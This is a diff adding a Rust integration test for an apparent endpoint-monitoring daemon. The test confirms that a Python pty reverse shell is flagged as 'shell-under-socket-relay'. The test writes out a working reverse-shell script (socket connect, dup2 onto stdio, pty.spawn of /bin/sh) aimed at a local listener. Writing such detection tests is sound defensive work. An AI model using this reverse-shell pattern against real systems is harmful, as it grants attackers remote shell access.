@@ -1144,6 +1144,52 @@ fn behaviour_events_are_alerted_and_their_lookalikes_are_not() {
     drop(daemon);
 }
 
+/// The reverse shell that exec's its shell on a pty (python's `pty.spawn` after dup2'ing a
+/// socket onto its own stdio): the shell's stdio is a terminal, but the exec record carries its
+/// parent's, and the shipped default quarantines the shell (alerted in monitor mode).
+#[test]
+fn a_pty_reverse_shell_is_seen_through_its_relay() {
+    let test = "a_pty_reverse_shell_is_seen_through_its_relay";
+    if !require_root(test) {
+        return;
+    }
+    let _serial = serial();
+    let cursor = journald(test);
+    let daemon = Daemon::start("pty-relay", &[]);
+    let listener = TcpListener::bind("127.0.0.1:0").expect("listener");
+    let port = listener.local_addr().expect("addr").port();
+    let script = format!(
+        "import os, pty, socket\n\
+         s = socket.create_connection(('127.0.0.1', {port}))\n\
+         for fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\n\
+         pty.spawn('/bin/sh')\n"
+    );
+    let relay = Reap(Command::new("python3").args(["-c", &script]).spawn().expect("python3"));
+    let relay_pid = relay.0.id().to_string();
+    let (mut conn, _) = listener.accept().expect("accept");
+    conn.set_read_timeout(Some(Duration::from_secs(5))).expect("timeout");
+    std::io::Write::write_all(&mut conn, b"echo relayed-$((6*7)); exit\n").expect("send");
+    let mut seen = String::new();
+    let mut buf = [0u8; 512];
+    while !seen.contains("relayed-42") {
+        match conn.read(&mut buf) {
+            Ok(0) | Err(_) => break,
+            Ok(n) => seen.push_str(&String::from_utf8_lossy(&buf[..n])),
+        }
+    }
+    assert!(seen.contains("relayed-42"), "the shell ran on the pty: {seen:?}");
+
+    let found = entries(&cursor, "the shell-under-socket-relay alert", |e| {
+        f(e, "VIGIL_REASON") == "shell-under-socket-relay" && f(e, "VIGIL_PPID") == relay_pid
+    });
+    if let Some(a) = found.first() {
+        assert_eq!(f(a, "VIGIL_EVENT"), "alert", "{a}");
+        assert!(f(a, "MESSAGE").contains("would quarantine"), "{a}");
+    }
+    drop(relay);
+    drop(daemon);
+}
+
 /// The shipped default's dropper rule, on images the kernel describes at exec: a program copied
 /// under a dot name in a temporary directory and run at once is alerted on with its age; the
 /// same program under a plain name, and a hidden one whose change lies outside the rule's five
